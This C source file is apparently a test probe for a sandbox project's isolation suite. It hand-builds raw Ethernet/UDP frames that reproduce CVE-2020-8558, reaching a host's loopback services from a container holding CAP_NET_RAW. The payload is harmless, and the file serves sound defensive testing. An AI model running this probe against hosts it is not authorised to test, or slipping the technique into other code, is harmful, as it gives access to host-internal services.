/* A raw-frame probe for stratus's sandbox isolation tests, built statically into the
 * stratus-test/busybox image. It plays the attacker of CVE-2020-8558: a process with CAP_NET_RAW
 * hand-builds an Ethernet frame to the bridge's MAC address whose IPv4 destination is a loopback
 * address of the host, which the kernel delivers when the bridge has route_localnet=1 and no
 * firewall stops it.
 *
 *   rawprobe IFACE DST_MAC DST_IP DST_PORT [SECONDS]
 *
 * Sends a UDP datagram "stratus-rawprobe" from IFACE's own MAC and IPv4 address to
 * DST_IP:DST_PORT in a frame addressed to DST_MAC, once a second for SECONDS (default 3), and
 * listens on the same packet socket for a UDP answer from DST_IP:DST_PORT.
 *
 * Exit status: 0 and "answer: …" when something answered; 1 and "no answer" when nothing did;
 * 2 when the probe could not run (e.g. "socket: Operation not permitted" without CAP_NET_RAW). */
#include <arpa/inet.h>
#include <errno.h>
#include <net/if.h>
#include <netinet/if_ether.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <linux/if_packet.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static const char PAYLOAD[] = "stratus-rawprobe";

static int fail(const char *what) {
    printf("%s: %s\n", what, strerror(errno));
    return 2;
}

static unsigned short ip_checksum(const void *data, size_t len) {
    const unsigned short *p = data;
    unsigned long sum = 0;
    for (; len > 1; len -= 2) sum += *p++;
    if (len) sum += *(const unsigned char *)p;
    while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
    return (unsigned short)~sum;
}

static int parse_mac(const char *s, unsigned char mac[6]) {
    unsigned int b[6];
    if (sscanf(s, "%x:%x:%x:%x:%x:%x", &b[0], &b[1], &b[2], &b[3], &b[4], &b[5]) != 6) return -1;
    for (int i = 0; i < 6; i++) mac[i] = (unsigned char)b[i];
    return 0;
}

int main(int argc, char **argv) {
    if (argc < 5) {
        fprintf(stderr, "usage: rawprobe IFACE DST_MAC DST_IP DST_PORT [SECONDS]\n");
        return 2;
    }
    const char *iface = argv[1];
    unsigned char dst_mac[6];
    struct in_addr dst_ip;
    int dst_port = atoi(argv[4]);
    int seconds = argc > 5 ? atoi(argv[5]) : 3;
    if (parse_mac(argv[2], dst_mac) || !inet_aton(argv[3], &dst_ip) || dst_port <= 0) {
        fprintf(stderr, "rawprobe: bad arguments\n");
        return 2;
    }

    int s = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_IP));
    if (s < 0) return fail("socket");
    struct ifreq ifr;
    memset(&ifr, 0, sizeof ifr);
    strncpy(ifr.ifr_name, iface, IFNAMSIZ - 1);
    if (ioctl(s, SIOCGIFINDEX, &ifr)) return fail("SIOCGIFINDEX");
    int ifindex = ifr.ifr_ifindex;
    if (ioctl(s, SIOCGIFHWADDR, &ifr)) return fail("SIOCGIFHWADDR");
    unsigned char src_mac[6];
    memcpy(src_mac, ifr.ifr_hwaddr.sa_data, 6);
    if (ioctl(s, SIOCGIFADDR, &ifr)) return fail("SIOCGIFADDR");
    struct in_addr src_ip = ((struct sockaddr_in *)&ifr.ifr_addr)->sin_addr;
    unsigned short src_port = (unsigned short)(40000 + getpid() % 20000);

    unsigned char frame[128];
    memset(frame, 0, sizeof frame);
    struct ether_header *eth = (struct ether_header *)frame;
    memcpy(eth->ether_dhost, dst_mac, 6);
    memcpy(eth->ether_shost, src_mac, 6);
    eth->ether_type = htons(ETHERTYPE_IP);
    struct iphdr *ip = (struct iphdr *)(frame + sizeof *eth);
    struct udphdr *udp = (struct udphdr *)((unsigned char *)ip + sizeof *ip);
    unsigned char *data = (unsigned char *)udp + sizeof *udp;
    size_t udp_len = sizeof *udp + sizeof PAYLOAD - 1;
    ip->version = 4;
    ip->ihl = 5;
    ip->ttl = 64;
    ip->protocol = IPPROTO_UDP;
    ip->tot_len = htons((unsigned short)(sizeof *ip + udp_len));
    ip->id = htons((unsigned short)getpid());
    ip->saddr = src_ip.s_addr;
    ip->daddr = dst_ip.s_addr;
    ip->check = ip_checksum(ip, sizeof *ip);
    udp->source = htons(src_port);
    udp->dest = htons((unsigned short)dst_port);
    udp->len = htons((unsigned short)udp_len);
    udp->check = 0; /* optional over IPv4 */
    memcpy(data, PAYLOAD, sizeof PAYLOAD - 1);
    size_t frame_len = sizeof *eth + sizeof *ip + udp_len;

    struct sockaddr_ll to;
    memset(&to, 0, sizeof to);
    to.sll_family = AF_PACKET;
    to.sll_protocol = htons(ETH_P_IP);
    to.sll_ifindex = ifindex;
    to.sll_halen = 6;
    memcpy(to.sll_addr, dst_mac, 6);

    printf("probe %s:%d from %s:%u via %s\n", argv[3], dst_port, inet_ntoa(src_ip), src_port, iface);
    fflush(stdout);
    for (int round = 0; round < seconds; round++) {
        if (sendto(s, frame, frame_len, 0, (struct sockaddr *)&to, sizeof to) < 0) return fail("sendto");
        struct timespec start, now;
        clock_gettime(CLOCK_MONOTONIC, &start);
        for (;;) {
            clock_gettime(CLOCK_MONOTONIC, &now);
            long waited = (now.tv_sec - start.tv_sec) * 1000 + (now.tv_nsec - start.tv_nsec) / 1000000;
            if (waited >= 1000) break;
            struct pollfd p = {.fd = s, .events = POLLIN};
            if (poll(&p, 1, (int)(1000 - waited)) <= 0) continue;
            unsigned char in[2048];
            ssize_t n = recv(s, in, sizeof in, 0);
            if (n < (ssize_t)(sizeof *ip + sizeof *udp)) continue;
            /* SOCK_RAW on a packet socket: the Ethernet header comes first. */
            const struct iphdr *rip = (const struct iphdr *)(in + sizeof *eth);
            if (n < (ssize_t)(sizeof *eth + sizeof *ip + sizeof *udp) || rip->version != 4 ||
                rip->protocol != IPPROTO_UDP)
                continue;
            const struct udphdr *rudp = (const struct udphdr *)((const unsigned char *)rip + rip->ihl * 4);
            if (rip->saddr != dst_ip.s_addr || ntohs(rudp->source) != dst_port ||
                ntohs(rudp->dest) != src_port)
                continue;
            printf("answer: %zd bytes from %s:%d\n", n, argv[3], dst_port);
            return 0;
        }
    }
    printf("no answer\n");
    return 1;
}
